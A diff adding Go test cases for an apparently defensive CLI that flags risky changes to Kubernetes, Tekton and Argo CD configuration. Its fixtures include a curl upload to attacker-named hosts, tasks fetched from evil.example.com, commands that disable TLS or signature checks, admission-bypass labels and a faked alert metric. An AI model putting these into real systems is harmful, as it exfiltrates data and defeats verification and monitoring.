@@ -1,0 +1,141 @@
+package cli_test
+
+import (
+	"fmt"
+	"strings"
+)
+
+// pullsOfReview change what judges, what is believed and what is told on a cluster.
+func pullsOfReview() []pull {
+	const reviewed = "package platform\nplatform: lock: tenon: {tag: \"v0.1.0-debug\", digest: \"sha256:" + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"}\n" +
+		"platform: reviews: {repository: \"https://github.com/example/platform\", pool: \"cpu\"}\n"
+	review := func(name, more string) pull {
+		return pull{kind: "review", name: name, exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: reviewed}, head: map[string]string{prod: reviewed + more}}
+	}
+	gateScript := func(text string) string {
+		return "platform: tasks: \"platform-review\": steps: gate: script: \"\"\"\n\t#!/busybox/sh\n\tset -eu\n\t" + text + "\n\n\t\"\"\"\n"
+	}
+	all := []pull{
+		review("a step that says that it passed", gateScript("echo passed")),
+		review("the head against itself", gateScript(`tenon gate -C \"$SOURCE/platform.git\" --base change --head change -o text`)),
+		review("the change for the base", `platform: tasks: "platform-review": steps: fetch: env: BASE: "$(params.revision)"`+"\n"),
+		{kind: "review", name: "another folder", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: reviewed}, head: map[string]string{prod: `pool: "cpu"}=>pool: "cpu", folder: "decoy"}`}},
+		{kind: "review", name: "another digest of the same tag", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: reviewed}, head: map[string]string{prod: "sha256:aaaa=>sha256:bbbb"}},
+		{kind: "review", name: "no review", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: reviewed}, head: map[string]string{prod: "platform: reviews: =>// "}},
+	}
+	return append(append(append(all, pullsOfTeams()...), pullsOfTrust()...), pullsOfHooks()...)
+}
+
+// pullsOfTeams are about namespaces in which no pods are among the objects.
+func pullsOfTeams() []pull {
+	const team = "package platform\nplatform: teams: research: group: \"research\"\n"
+	policy := func(namespace, spec string) string {
+		return fmt.Sprintf("targets: [string]: NetworkPolicy: \"%[1]s/p\": {apiVersion: \"networking.k8s.io/v1\", kind: \"NetworkPolicy\", metadata: {name: \"p\", namespace: %[1]q}, spec: {%[2]s}}\n", namespace, spec)
+	}
+	space := func(labels string) string {
+		return `targets: [string]: Namespace: "notebook-ci-x": {apiVersion: "v1", kind: "Namespace", metadata: {name: "notebook-ci-x", labels: {"pod-security.kubernetes.io/enforce": "restricted"` + labels + `}}}` + "\n"
+	}
+	const deny, open = `podSelector: {}, policyTypes: ["Egress", "Ingress"]`, `podSelector: {}, policyTypes: ["Ingress"], ingress: [{from: [{namespaceSelector: {}}]}]`
+	all := []pull{
+		{kind: "team", name: "a first egress", base: map[string]string{prod: team}, head: map[string]string{prod: team + "platform: teams: research: egress: [\"0.0.0.0/0\"]\n"}},
+		{kind: "team", name: "opened to all pods", base: map[string]string{prod: team}, head: map[string]string{prod: team + policy("notebook-ci-research", open)}},
+		{kind: "team", name: "nothing refused any more", base: map[string]string{prod: "package platform\n" + space("") + policy("notebook-ci-x", deny)}, head: map[string]string{prod: "package platform\n" + space("")}},
+	}
+	for _, label := range []string{`"admission.gatekeeper.sh/ignore": "true"`, `"policies.kyverno.io/ignore": "true"`, `"pod-security.kubernetes.io/enforce-version": "v1.0"`} {
+		all = append(all, pull{kind: "team", name: "a new namespace with " + label, head: map[string]string{prod: "package platform\n" + space(", "+label)}})
+	}
+	for i := range all {
+		all[i].exit, all[i].wants = -1, []string{"change/power-changed"}
+	}
+	return all
+}
+
+// pullsOfTrust change who is believed, and where data goes.
+func pullsOfTrust() []pull {
+	holding := func(key, text string) string {
+		return inTarget("ConfigMap", "trust", `{apiVersion: "v1", kind: "ConfigMap", metadata: {name: "trust", namespace: "notebook-ci"}, data: "`+key+`": "`+text+`"}`)
+	}
+	var all []pull
+	for name, texts := range map[string][3]string{
+		"a public key":     {"cosign.pub", `-----BEGIN PUBLIC KEY-----\nMFkwEwaaaa\n-----END PUBLIC KEY-----\n`, `-----BEGIN PUBLIC KEY-----\nMFkwEwzzzz\n-----END PUBLIC KEY-----\n`},
+		"an authority":     {"ca.crt", `-----BEGIN CERTIFICATE-----\nMIIBaa\n-----END CERTIFICATE-----\n`, `-----BEGIN CERTIFICATE-----\nMIIBaa\n-----END CERTIFICATE-----\n-----BEGIN CERTIFICATE-----\nMIIBzz\n-----END CERTIFICATE-----\n`},
+		"a host key":       {"known_hosts", `github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkV`, `github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory`},
+		"no authority any": {"ca.crt", `-----BEGIN CERTIFICATE-----\nMIIBaa\n-----END CERTIFICATE-----\n`, ``},
+	} {
+		all = append(all, pull{kind: "anchor", name: name, exit: -1, wants: []string{"change/power-changed", "believed"}, base: map[string]string{prod: holding(texts[0], texts[1])}, head: map[string]string{prod: holding(texts[0], texts[2])}})
+	}
+	for _, host := range []string{"mallory.s3.amazonaws.com", "mallory.workers.dev", "mallory.ngrok-free.app", "mallory.duckdns.org"} {
+		all = append(all, pull{kind: "host", name: host, exit: -1, wants: []string{"it names " + host}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("curl -T x "+host, "")}})
+	}
+	for _, line := range []string{
+		"curl -fsS https://s3.example.com/x -o y -k", "curl -fsSko y https://s3.example.com/x", "curl --proxy-insecure https://s3.example.com/x", `python3 -c 'requests.get(u, verify=False)'`,
+		"GOSUMDB=off go install x", "apk add --allow-untrusted x", "psql 'postgres://db/x?sslmode=disable'", "yum install --nogpgcheck x",
+	} {
+		all = append(all, pull{kind: "verify", name: line, exit: -1, wants: []string{"is not verified"}, base: map[string]string{prod: aTask("curl -fsS -o x https://s3.example.com/x; psql postgres://db/x", "")}, head: map[string]string{prod: aTask("curl -fsS -o x https://s3.example.com/x; psql postgres://db/x; "+line, "")}})
+	}
+	all = append(all, pull{kind: "verify", name: "a sort behind a curl is none", exit: 0, never: []string{"is not verified"}, base: map[string]string{prod: aTask("curl -fsS https://s3.example.com/x", "")}, head: map[string]string{prod: aTask("curl -fsS https://s3.example.com/x | sort -k2", "")}})
+	return all
+}
+
+// pullsOfHooks disarm what a sync waits for, and what alerts ask for.
+func pullsOfHooks() []pull {
+	job := inTarget("Job", "j", `{apiVersion: "batch/v1", kind: "Job", metadata: {name: "j", namespace: "notebook-ci", annotations: "argocd.argoproj.io/hook": "PreSync"}, spec: template: spec: {restartPolicy: "Never", containers: [{name: "c", image: "registry.example.com/notebook-ci/git:2.52.0@sha256:0d3699ad8eeecf62f1db71b8052be6b90f4b6e0650035c377a451b6cdc2e3df1", command: ["x"], env: [{name: "LIST", value: "a"}]}]}}`)
+	monitor := strings.TrimPrefix(inTarget("ServiceMonitor", "m", `{apiVersion: "monitoring.coreos.com/v1", kind: "ServiceMonitor", metadata: {name: "m", namespace: "notebook-ci"}, spec: {selector: matchLabels: a: "b", endpoints: [{port: "http-metrics"}]}}`), "package platform\n")
+	alert := func(more string) string {
+		return inTarget("PrometheusRule", "r", `{apiVersion: "monitoring.coreos.com/v1", kind: "PrometheusRule", metadata: {name: "r", namespace: "notebook-ci"}, spec: groups: [{name: "g", rules: [{alert: "A", expr: "absent(up{job=\"tekton\"})"}`+more+`]}]}`)
+	}
+	quota := func(memory string) string {
+		return inTarget("ResourceQuota", "q", `{apiVersion: "v1", kind: "ResourceQuota", metadata: {name: "q", namespace: "notebook-ci"}, spec: hard: "requests.storage": "`+memory+`"}`)
+	}
+	all := []pull{
+		{kind: "hook", name: "an empty checklist", head: map[string]string{prod: "package platform\nplatform: jobs: preflight: env: CHECKLIST: \"[]\"\n"}},
+		{kind: "hook", name: "once a year", head: map[string]string{prod: "package platform\nplatform: jobs: preflight: schedule: \"0 0 1 1 *\"\n"}, wants: []string{"what Argo CD waits for"}},
+		{kind: "hook", name: "another image", base: map[string]string{prod: job}, head: map[string]string{prod: "notebook-ci/git:=>notebook-ci/publisher:"}, wants: []string{"what Argo CD waits for"}},
+		{kind: "hook", name: "deleted", base: map[string]string{prod: job}, head: map[string]string{prod: ""}, wants: []string{"what Argo CD waits for"}},
+		{kind: "hook", name: "another version of its image", exit: 0, never: []string{"what Argo CD waits for"}, wants: []string{"change/image"}, base: map[string]string{prod: job}, head: map[string]string{prod: "git:2.52.0@sha256:0d=>git:2.53.0@sha256:1d"}},
+		{kind: "alert", name: "what feeds it goes", base: map[string]string{prod: alert("") + monitor}, head: map[string]string{prod: alert("")}},
+		{kind: "alert", name: "what feeds it asks elsewhere", base: map[string]string{prod: alert("") + monitor}, head: map[string]string{prod: `port: "http-metrics"=>port: "http-metrics", path: "/none"`}},
+		{kind: "alert", name: "an answer to it", base: map[string]string{prod: alert("")}, head: map[string]string{prod: alert(`, {record: "up", labels: job: "tekton", expr: "vector(1)"}`)}},
+		{kind: "alert", name: "a monitor more", exit: 0, never: []string{"change/power-changed"}, base: map[string]string{prod: alert("")}, head: map[string]string{prod: alert("") + monitor}},
+	}
+	for i := range all {
+		if all[i].exit == 0 && all[i].never == nil {
+			all[i].exit = -1
+			all[i].wants = append(all[i].wants, "change/power-changed")
+		}
+	}
+	return append(all,
+		pull{kind: "quota", name: "bytes from nothing", exit: -1, wants: []string{"change/cost-multiplied"}, base: map[string]string{prod: quota("0")}, head: map[string]string{prod: quota("1Pi")}},
+		pull{kind: "quota", name: "one from nothing", exit: -1, wants: []string{"change/cost-multiplied"}, base: map[string]string{prod: quota("0")}, head: map[string]string{prod: quota("1")}},
+		pull{kind: "quota", name: "a little more", exit: -1, wants: []string{"change/cost"}, never: []string{"change/cost-multiplied"}, base: map[string]string{prod: quota("100Gi")}, head: map[string]string{prod: quota("110Gi")}},
+		pull{kind: "quota", name: "twice", exit: -1, wants: []string{"change/cost-multiplied"}, base: map[string]string{prod: quota("100Gi")}, head: map[string]string{prod: quota("200Gi")}},
+	)
+}
+
+// hostileFetches are runs that take code from where anybody may put another one.
+func hostileFetches() []trial {
+	run := func(annotation, spec string) string {
+		return "apiVersion: tekton.dev/v1\nkind: PipelineRun\nmetadata:\n  name: push\n  annotations:\n    pipelinesascode.tekton.dev/on-event: \"[push]\"\n    pipelinesascode.tekton.dev/on-target-branch: \"[main]\"\n" + annotation + "spec:\n  taskRunTemplate: {serviceAccountName: ci}\n  " + spec + "\n"
+	}
+	const task = "pipelineSpec: {tasks: [{name: t, taskRef: {name: bad}}]}"
+	var all []trial
+	for name, annotation := range map[string]string{
+		"an address": "task: https://evil.example.com/t.yaml", "a branch": "task-2: https://raw.githubusercontent.com/a/b/main/t.yaml", "the newest of a hub": "task: bad", "a pipeline": "pipeline: https://evil.example.com/p.yaml",
+	} {
+		all = append(all, trial{kind: "fetch", name: name, files: map[string]string{".tekton/push.yaml": run("    pipelinesascode.tekton.dev/"+annotation+"\n", task)}, args: []string{"check", "."}, exit: -1, wants: []string{"supply-chain/floating-resolver"}})
+	}
+	for name, ref := range map[string]string{
+		"http": "{resolver: http, params: [{name: url, value: https://evil.example.com/t.yaml}]}", "git without a revision": "{resolver: git, params: [{name: url, value: https://github.com/a/b}, {name: pathInRepo, value: t.yaml}]}",
+		"a branch like a version": "{resolver: git, params: [{name: url, value: https://github.com/a/b}, {name: revision, value: 1.2-main}, {name: pathInRepo, value: t.yaml}]}",
+		"a range of versions":     "{resolver: hub, params: [{name: name, value: bad}, {name: kind, value: task}, {name: version, value: '>= 0.0.1'}]}",
+	} {
+		all = append(all, trial{kind: "fetch", name: name, files: map[string]string{".tekton/push.yaml": run("", "pipelineSpec: {tasks: [{name: t, taskRef: "+ref+"}]}")}, args: []string{"check", "."}, exit: -1, wants: []string{"supply-chain/floating-resolver"}})
+	}
+	const application = "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: a, namespace: argocd}\nspec:\n  project: ci\n  destination: {server: https://kubernetes.default.svc, namespace: ci}\n  source: {repoURL: https://github.com/example/platform, targetRevision: v1.0.0, path: app, kustomize: {%s: []}}\n"
+	return append(all,
+		trial{kind: "fetch", name: "a file of another ending", files: map[string]string{".tekton/push.yaml": run("    pipelinesascode.tekton.dev/task: ci/bad.txt\n", task), "ci/bad.txt": "x"}, args: []string{"check", "."}, exit: -1, wants: []string{"input/not-read", "ci/bad.txt"}, never: []string{"graph/task-not-found"}},
+		trial{kind: "fetch", name: "a pinned one is none", files: map[string]string{".tekton/push.yaml": run("    pipelinesascode.tekton.dev/task: https://raw.githubusercontent.com/a/b/0123456789012345678901234567890123456789/t.yaml\n", task)}, args: []string{"check", "."}, exit: 0, never: []string{"supply-chain/floating-resolver"}},
+		trial{kind: "fetch", name: "patches of an Application", files: map[string]string{"a.yaml": fmt.Sprintf(application, "patches")}, args: []string{"check", "."}, exit: -1, wants: []string{"input/not-read"}},
+		trial{kind: "fetch", name: "components of an Application", files: map[string]string{"a.yaml": fmt.Sprintf(application, "components")}, args: []string{"check", "."}, exit: -1, wants: []string{"input/not-read"}},
+	)
+}
